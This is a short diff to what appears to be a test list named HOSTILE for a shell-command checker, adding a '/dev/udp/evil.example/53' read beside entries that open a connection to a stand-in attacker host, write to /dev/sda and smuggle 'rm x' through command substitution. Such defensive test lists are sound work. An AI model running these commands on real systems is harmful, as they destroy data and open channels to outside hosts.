@@ -197,6 +197,7 @@ HOSTILE = (
     r'ls >"$X"',
     "ls > /dev/sda",
     "cat < /dev/tcp/evil.example/80",
+    "cat < /dev/udp/evil.example/53",
     r'cat < "$X"',
     "ls $(rm x)",
     r'ls "$(rm x)"',
